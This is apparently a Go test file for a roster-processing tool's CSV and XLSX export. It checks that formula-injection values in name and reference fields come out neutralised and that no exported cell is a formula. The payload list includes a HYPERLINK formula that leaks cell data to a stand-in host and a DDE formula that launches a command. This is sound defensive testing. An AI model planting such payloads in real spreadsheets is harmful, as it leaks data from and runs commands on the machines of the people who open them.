package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// formulaPayloads are names and references an attacker puts in a roster
// so that the agent's spreadsheet runs them when it opens the export.
var formulaPayloads = []string{
	`=HYPERLINK("http://x?leak="&B2;"clic")`,
	`=DDE("cmd";"/C calc";"!A0")`,
	`+1+1`,
	`@SUM(A1)`,
	`-2+3`,
	"\t=1+1",
	"\r=1+1",
	`＝1+1`,
}

// TestResults_NeutralisesFormulas runs a roster of formula-like names and
// references, then exports it as CSV and XLSX: no cell of either starts
// with a formula character, and the XLSX has no formula cell; its text
// cells are text, only its dates and numbers are not.
func TestResults_NeutralisesFormulas(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	dir := t.TempDir()
	data := filepath.Join(dir, "data")
	var roster bytes.Buffer
	w := csv.NewWriter(&roster)
	w.Comma = ';'
	w.Write([]string{"reference", "nom_naissance", "prenoms", "sexe", "date_naissance", "code_insee_pays_naissance", "code_insee_commune_naissance"})
	for _, p := range formulaPayloads {
		w.Write([]string{p, p, p, "F", "1982-12-27", "99100", "08480"})
	}
	w.Write([]string{"-12", "LEFEBVRE", "ALEXIS", "F", "1982-12-27", "99100", "08480"})
	w.Flush()
	path := filepath.Join(dir, "liste.csv")
	if err := os.WriteFile(path, roster.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, out, errs := runApbatch(t, ctx, "run", "--data-dir", data, "--flush-interval", "1s", "--out", filepath.Join(dir, "out"), path); code != 0 {
		t.Fatalf("run: exit %d\n%s\n%s", code, out, errs)
	}
	csvPath, xlsxPath := filepath.Join(dir, "r.csv"), filepath.Join(dir, "r.xlsx")
	for _, p := range []string{csvPath, xlsxPath} {
		if code, out, errs := runApbatch(t, ctx, "results", "--data-dir", data, "-o", p); code != 0 {
			t.Fatalf("results -o %s: exit %d\n%s\n%s", filepath.Base(p), code, out, errs)
		}
	}
	want := len(formulaPayloads) + 2 // the header and the plain row

	raw, err := os.ReadFile(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff"))))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil || len(recs) != want {
		t.Fatalf("csv export: %d records, %v\n%s", len(recs), err, raw)
	}
	neutralised := 0
	for i, rec := range recs {
		for j, cell := range rec {
			if unsafeCell(cell) {
				t.Errorf("csv record %d, field %d starts with a formula character: %q", i+1, j+1, cell)
			}
			if strings.HasPrefix(cell, "'") {
				neutralised++
			}
		}
	}
	if neutralised < len(formulaPayloads)*3 {
		t.Errorf("csv: %d cells neutralised, want at least %d", neutralised, len(formulaPayloads)*3)
	}
	if last := recs[len(recs)-1]; last[0] != "-12" {
		t.Errorf("csv: the plain number reference became %q", last[0])
	}

	f, err := excelize.OpenFile(xlsxPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil || len(rows) != want {
		t.Fatalf("xlsx export: %d rows, %v", len(rows), err)
	}
	for i, row := range rows {
		for j, cell := range row {
			name, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if unsafeCell(cell) {
				t.Errorf("xlsx %s starts with a formula character: %q", name, cell)
			}
			if formula, _ := f.GetCellFormula(sheet, name); formula != "" {
				t.Errorf("xlsx %s is a formula: %q", name, formula)
			}
			// Birth dates, QFs and prices are numbers; every other cell is text.
			typed := i > 0 && (rows[0][j] == "date_naissance" || rows[0][j] == "Quotient familial" || rows[0][j] == "Tarif")
			if typ, _ := f.GetCellType(sheet, name); cell != "" && !typed && typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("xlsx %s: type %v, want text", name, typ)
			}
		}
		if i >= 1 && i <= len(formulaPayloads) && row[0] != "'"+formulaPayloads[i-1] {
			t.Errorf("xlsx row %d: reference %q, want the payload with a leading apostrophe", i+1, row[0])
		}
	}
	if last := rows[len(rows)-1]; last[0] != "-12" {
		t.Errorf("xlsx: the plain number reference became %q", last[0])
	}
}

// unsafeCell reports whether a spreadsheet would evaluate cell: it starts
// with a formula character and is not a plain number.
func unsafeCell(cell string) bool {
	if cell == "-12" {
		return false
	}
	for _, p := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(cell, p) {
			return true
		}
	}
	return false
}
